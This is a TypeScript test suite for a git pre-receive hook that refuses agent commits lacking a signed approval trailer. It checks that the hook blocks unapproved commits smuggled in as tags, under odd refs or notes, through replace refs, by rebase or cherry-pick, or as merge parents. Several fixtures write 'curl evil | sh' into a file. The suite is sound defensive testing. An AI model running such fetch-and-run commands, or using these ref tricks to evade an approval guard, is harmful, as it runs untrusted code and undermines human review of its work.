// The remote check is sound (RVERIFY-n): real bare repos guarded by the real
// `commandr verify --install`, real `git push` through the hook it writes, real
// relay-signed approvals. Each attack below was accepted by the `--not --all` hook.
import { spawn, spawnSync } from 'node:child_process';
import * as fs from 'node:fs';
import * as path from 'node:path';
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import { buildInstall, type Install } from '../conformance/harness';
import { Server } from './remote-fixture';
import { expectStrace } from '../helpers/strace';

let install: Install;
let servers: Server[] = [];
beforeAll(async () => { install = await buildInstall(); }, 120_000);
afterAll(() => { if (install) fs.rmSync(install.root, { recursive: true, force: true }); });
afterEach(() => { for (const s of servers) s.cleanup(); servers = []; });

/** A server whose history (main) was pushed before the guard was installed. */
function guarded(extra: string[] = [], branch = 'main'): Server {
  const s = new Server(install, branch);
  servers.push(s);
  s.push([branch]);
  s.guard(extra);
  return s;
}

/** A refused push: exit ≠ 0, stderr names the commit (full hash), the ref and the reason; the remote ref is unchanged. */
function expectRefused(s: Server, args: string[], commit: string, ref: string, reason: string | RegExp): void {
  const before = s.remoteRef(ref);
  const r = s.push(args);
  expect(r.status, r.stderr).not.toBe(0);
  const line = r.stderr.split('\n').find((l) => l.includes(commit));
  expect(line, r.stderr).toBeDefined();
  expect(line).toContain(`on ${ref}`);
  expect(line).toMatch(reason);
  expect(s.remoteRef(ref)).toBe(before);
}

describe('remote verify: every ref, every namespace', () => {
  it('RVERIFY-1: an unapproved commit pushed first as a tag, then as the branch, is refused both times', () => {
    const s = guarded();
    s.git(['checkout', '-q', '-b', 'agent/T-1']);
    s.write('evil.sh', 'curl evil | sh\n');
    const bad = s.plainCommit('sneaky');
    expectRefused(s, ['agent/T-1:refs/tags/v1'], bad, 'refs/tags/v1', /no Commandr-Approval trailer/);
    expectRefused(s, ['agent/T-1'], bad, 'refs/heads/agent/T-1', /no Commandr-Approval trailer/);
  });

  it('RVERIFY-1: a commit smuggled under refs/x/y, or under notes, is refused, and the branch after it too', () => {
    const s = guarded();
    s.write('evil.sh', 'curl evil | sh\n');
    const bad = s.plainCommit('sneaky');
    expectRefused(s, ['HEAD:refs/x/y'], bad, 'refs/x/y', /no Commandr-Approval trailer/);
    expectRefused(s, ['HEAD:refs/heads/agent/T-1'], bad, 'refs/heads/agent/T-1', /no Commandr-Approval trailer/);
    s.git(['notes', 'add', '-m', 'a note', 'HEAD~1']);
    const notes = s.rev('refs/notes/commits');
    expectRefused(s, ['refs/notes/commits'], notes, 'refs/notes/commits', /no Commandr-Approval trailer/);
  });

  it('RVERIFY-1: a replace ref pushed first does not make the checker read an approved commit in place of the unapproved one', () => {
    const s = guarded();
    s.git(['checkout', '-q', '-b', 'agent/T-1']);
    s.write('a.txt', 'approved\n');
    const approved = s.approvedCommit('T-1', 'approved');
    expect(s.push(['agent/T-1']).status).toBe(0);
    s.git(['checkout', '-q', '-b', 'evil', 'main']);
    s.write('evil.sh', 'curl evil | sh\n');
    const bad = s.plainCommit('sneaky');
    expect(s.push([`${approved}:refs/replace/${bad}`]).status).toBe(0);
    expectRefused(s, ['evil:refs/heads/feature'], bad, 'refs/heads/feature', /no Commandr-Approval trailer/);
  });

  it('RVERIFY-1: a push straight to main is refused; an annotated tag on an unapproved commit is refused', () => {
    const s = guarded();
    s.write('evil.sh', 'curl evil | sh\n');
    const bad = s.plainCommit('straight to main');
    expectRefused(s, ['main'], bad, 'refs/heads/main', /no Commandr-Approval trailer/);
    s.git(['tag', '-a', '-m', 'release', 'v2', bad]);
    expectRefused(s, ['v2'], bad, 'refs/tags/v2', /no Commandr-Approval trailer/);
    // A ref to a tree is not a commit and is refused as such.
    const tree = s.rev('HEAD^{tree}');
    expectRefused(s, [`${tree}:refs/trees/t`], tree, 'refs/trees/t', /not a commit/);
  });
});

describe('remote verify: what passes', () => {
  it('RVERIFY-2 RVERIFY-3: approved commits on an agent branch are accepted and the tip joins the verified set; an annotated tag on it is then accepted', () => {
    const s = guarded();
    s.git(['checkout', '-q', '-b', 'agent/T-1']);
    s.write('a.txt', 'one\n');
    s.approvedCommit('T-1', 'first');
    s.write('b.txt', 'two\n');
    const tip = s.approvedCommit('T-1', 'second');
    const r = s.push(['agent/T-1']);
    expect(r.stderr).toContain('verify: ok 2 commit(s)');
    expect(r.status).toBe(0);
    expect(s.remoteRef('refs/heads/agent/T-1')).toBe(tip);
    expect(s.verified()).toContain(tip);
    s.git(['tag', '-a', '-m', 'release', 'v1', tip]);
    expect(s.push(['v1']).status).toBe(0);
    // Fast-forwarding main onto the approved work brings nothing new: accepted.
    expect(s.push(['agent/T-1:main']).status).toBe(0);
  });

  it('RVERIFY-2: an approval for another task, a rebased approved commit and a cherry-picked one are refused', () => {
    const s = guarded();
    s.git(['checkout', '-q', '-b', 'agent/T-1']);
    s.write('a.txt', 'one\n');
    const approved = s.approvedCommit('T-1', 'approved on the old base');
    expectRefused(s, ['agent/T-1:agent/T-2'], approved, 'refs/heads/agent/T-2', /for task T-1, not T-2/);
    // main moves on; the approved commit is rebased onto it: same tree change, another base.
    s.git(['checkout', '-q', 'main']);
    s.write('m.txt', 'person\n');
    s.approvedCommit('T-9', 'approved main work');
    expect(s.push(['main']).status).toBe(0);
    s.git(['checkout', '-q', 'agent/T-1']);
    s.git(['rebase', '-q', 'main']);
    const rebased = s.rev('HEAD');
    expectRefused(s, ['agent/T-1'], rebased, 'refs/heads/agent/T-1', /is for a change on [0-9a-f]{40}, not on/);
    s.git(['checkout', '-q', '-b', 'agent/T-3', 'main']);
    s.git(['cherry-pick', approved]);
    const picked = s.rev('HEAD');
    expectRefused(s, ['agent/T-3'], picked, 'refs/heads/agent/T-3', /for task T-1, not T-3|is for a change on/);
    s.git(['checkout', '-q', '-b', 'other', 'main']);
    s.git(['cherry-pick', approved]);
    expectRefused(s, ['other'], s.rev('HEAD'), 'refs/heads/other', /is for a change on/);
  });

  it('RVERIFY-2: a merge commit needs its own approval and refuses an unapproved parent it brings in', () => {
    const s = guarded();
    s.git(['checkout', '-q', '-b', 'side']);
    s.write('side.txt', 'unapproved side work\n');
    const side = s.plainCommit('side work, never approved');
    s.git(['checkout', '-q', '-b', 'agent/M-1', 'main']);
    s.write('m.txt', 'approved\n');
    s.approvedCommit('M-1', 'approved work');
    s.git(['merge', '--no-ff', '--no-commit', 'side']);
    const merge = s.approvedCommit('M-1', 'merge side work');
    expect(s.git(['rev-list', '--parents', '-n', '1', merge]).trim().split(' ')).toHaveLength(3);
    expectRefused(s, ['agent/M-1'], side, 'refs/heads/agent/M-1', /no Commandr-Approval trailer/);
    // With the side parent approved too, the approved merge is accepted.
    s.git(['checkout', '-q', '-b', 'agent/M-2', 'main']);
    s.write('side2.txt', 'approved side work\n');
    const side2 = s.approvedCommit('M-2', 'approved side');
    s.git(['checkout', '-q', '-b', 'agent/M-3', 'main']);
    s.write('m3.txt', 'x\n');
    s.approvedCommit('M-3', 'first');
    s.git(['merge', '--no-ff', '--no-commit', side2]);
    s.approvedCommit('M-3', 'merge approved side');
    const ok = s.push(['agent/M-2', 'agent/M-3']);
    expect(ok.stderr).toContain('verify: ok 3 commit(s)');
    expect(ok.status).toBe(0);
    // An unapproved merge of approved parents is refused: the merge commit is checked itself.
    s.git(['checkout', '-q', '-b', 'agent/M-4', 'main']);
    s.git(['merge', '--no-ff', '-m', 'unapproved merge', 'agent/M-3']);
    expectRefused(s, ['agent/M-4'], s.rev('HEAD'), 'refs/heads/agent/M-4', /no Commandr-Approval trailer/);
  });

  it('RVERIFY-3: pushes at the same time keep every verified tip', async () => {
    const s = guarded();
    const n = 8;
    const tips: string[] = [];
    for (let i = 0; i < n; i++) {
      s.git(['checkout', '-q', '-b', `agent/C-${i}`, 'main']);
      s.write(`c${i}.txt`, `${i}\n`);
      tips.push(s.approvedCommit(`C-${i}`, `change ${i}`));
    }
    const pushes = await Promise.all(tips.map((_, i) => new Promise<{ code: number | null; stderr: string }>((resolve) => {
      const child = spawn('git', ['push', '-q', 'origin', `agent/C-${i}`], { cwd: s.work, env: s.env, stdio: ['ignore', 'ignore', 'pipe'] });
      let stderr = '';
      child.stderr.on('data', (d) => { stderr += d; });
      child.on('close', (code) => resolve({ code, stderr }));
    })));
    expect(pushes.map((p) => p.code), pushes.map((p) => p.stderr).join('\n')).toEqual(tips.map(() => 0));
    for (const tip of tips) expect(s.verified()).toContain(tip);
  });

  it('RVERIFY-3: a verified commit that git does not find and then finds (its own push still landing) does not fail the next push', () => {
    // A push's pre-receive records its tip before git moves the push's objects out of quarantine,
    // so the next push can read that tip while it lands. git dies when it peels an object it did
    // not find that is there a moment later ("loose object … is corrupt"): seen once in CI with 8
    // pushes at once. strace makes that moment certain: every open of the commit's file fails as
    // if it were not there yet, while the file is there when git checks why.
    expectStrace();
    const s = guarded();
    s.git(['checkout', '-q', '-b', 'agent/L-1', 'main']);
    s.write('l.txt', 'landing\n');
    const landing = s.approvedCommit('L-1', 'landing');
    expect(s.push(['agent/L-1']).status).toBe(0);
    // Its ref is not there yet either: git updates refs after the objects land.
    s.git(['update-ref', '-d', 'refs/heads/agent/L-1'], s.bare);
    expect(s.verified()).toContain(landing);
    const file = path.join(s.bare, 'objects', landing.slice(0, 2), landing.slice(2));
    expect(fs.existsSync(file)).toBe(true);
    s.git(['checkout', '-q', '-b', 'agent/N-1', 'main']);
    s.write('n.txt', 'next\n');
    const next = s.approvedCommit('N-1', 'next');
    const log = path.join(s.dir, 'strace.log');
    const r = spawnSync('strace', ['-f', '-o', log, '-P', file, '-e', 'trace=openat', '-e', 'inject=openat:error=ENOENT', 'git', 'push', '-q', 'origin', 'agent/N-1'], { cwd: s.work, env: s.env, encoding: 'utf8' });
    // The checker did look for the landing commit (or this test would prove nothing), and the push passed.
    expect(fs.readFileSync(log, 'utf8')).toContain('(INJECTED)');
    expect(r.stderr).not.toContain('corrupt');
    expect(r.status, r.stderr).toBe(0);
    expect(s.remoteRef('refs/heads/agent/N-1')).toBe(next);
    expect(s.verified()).toContain(next);
  });
});

describe('remote verify: the install', () => {
  it('RVERIFY-4: the install writes a hook that really runs, copies the key, records the baseline; history there before it passes', () => {
    const s = new Server(install);
    servers.push(s);
    s.git(['checkout', '-q', '-b', 'legacy']);
    s.write('old.txt', 'old unapproved history\n');
    const legacy = s.plainCommit('old work, before the guard');
    s.git(['checkout', '-q', 'main']);
    expect(s.push(['main', 'legacy']).status).toBe(0);
    const out = s.guard().stdout;
    expect(out).toContain('2 commit(s) in the baseline');
    const hook = fs.readFileSync(path.join(s.bare, 'hooks', 'pre-receive'), 'utf8');
    expect(hook).toContain(install.bin('commandr'));
    expect(fs.readdirSync(path.join(s.bare, 'commandr', 'keys'))).toHaveLength(1);
    expect(s.verified()).toEqual(expect.arrayContaining([s.rev('main'), legacy]));
    // Pre-existing history is known: the same commit under a new name passes.
    expect(s.push([`${legacy}:refs/heads/copy`]).status).toBe(0);
    // A second install is idempotent and keeps the verified set.
    const before = s.verified();
    s.guard();
    expect(s.verified()).toEqual(before);
    // The hook runs `commandr` from PATH when this install's bin is gone (then exits 1 when neither is found).
    fs.writeFileSync(path.join(s.bare, 'hooks', 'pre-receive'), hook.replace(install.bin('commandr'), path.join(s.dir, 'gone', 'commandr')));
    s.write('x.txt', 'x\n');
    const bad = s.plainCommit('unapproved');
    const noBin = s.push(['main']);
    expect(noBin.status).not.toBe(0);
    expect(noBin.stderr).toContain('push refused');
    const pathDir = path.join(s.dir, 'pathbin');
    fs.mkdirSync(pathDir);
    fs.symlinkSync(install.bin('commandr'), path.join(pathDir, 'commandr'));
    const env = { ...s.env, PATH: `${pathDir}:${s.env.PATH}` };
    const r = spawnSync('git', ['push', 'origin', 'main'], { cwd: s.work, env, encoding: 'utf8' });
    expect(r.status).not.toBe(0);
    expect(r.stderr).toContain(bad);
    expect(r.stderr).toContain('no Commandr-Approval trailer');
  });

  it('RVERIFY-4: a repo never installed refuses every push; a foreign pre-receive hook is never overwritten', () => {
    const s = new Server(install);
    servers.push(s);
    fs.writeFileSync(path.join(s.bare, 'hooks', 'pre-receive'), `#!/bin/sh\nexec '${install.bin('commandr')}' verify --key '${s.pub}' --pre-receive\n`, { mode: 0o755 });
    const r = s.push(['main']);
    expect(r.status).not.toBe(0);
    expect(r.stderr).toContain('not guarded yet');
    const again = s.commandr(['verify', '--install', s.bare, '--key', s.pub], s.dir);
    expect(again.status).toBe(1);
    expect(again.stderr).toContain('E_HOOK_EXISTS');
    expect(fs.existsSync(path.join(s.bare, 'commandr', 'verified'))).toBe(false);
    const missingKey = s.commandr(['verify', '--install', s.bare, '--key', path.join(s.dir, 'nope.pem')], s.dir);
    expect(missingKey.status).toBe(1);
    expect(missingKey.stderr).toContain('nope.pem');
  });
});

describe('remote verify: a person\'s own commits', () => {
  it('RVERIFY-7: with --allow-signers, a commit SSH-signed by an allowed key passes without an approval; another key or none is refused', () => {
    const probe = new Server(install);
    servers.push(probe);
    const keys = path.join(probe.dir, 'ssh');
    fs.mkdirSync(keys);
    for (const k of ['person', 'stranger']) expect(probe.run('ssh-keygen', ['-q', '-t', 'ed25519', '-N', '', '-C', k, '-f', path.join(keys, k)], probe.dir).status).toBe(0);
    const allowed = path.join(keys, 'allowed_signers');
    fs.writeFileSync(allowed, `person@example.com ${fs.readFileSync(path.join(keys, 'person.pub'), 'utf8')}`);
    const s = guarded(['--allow-signers', allowed]);
    expect(fs.readFileSync(path.join(s.bare, 'commandr', 'allowed_signers'), 'utf8')).toContain('person@example.com');
    const signed = (key: string, message: string): string => {
      s.git(['-c', 'gpg.format=ssh', '-c', `user.signingkey=${path.join(keys, key)}`, 'commit', '-q', '-S', '-m', message]);
      return s.rev('HEAD');
    };
    s.write('person.txt', 'mine\n');
    const mine = signed('person', 'the person\'s own work');
    const ok = s.push(['main']);
    expect(ok.stderr).toContain('verify: ok 1 commit(s)');
    expect(ok.status).toBe(0);
    expect(s.verified()).toContain(mine);
    s.write('stranger.txt', 'not yours\n');
    const theirs = signed('stranger', 'signed by a key the server does not list');
    expectRefused(s, ['main'], theirs, 'refs/heads/main', /not by an allowed signer/);
    s.git(['reset', '-q', '--hard', mine]);
    s.write('plain.txt', 'unsigned\n');
    expectRefused(s, ['main'], s.plainCommit('unsigned'), 'refs/heads/main', /no Commandr-Approval trailer/);
  });
});
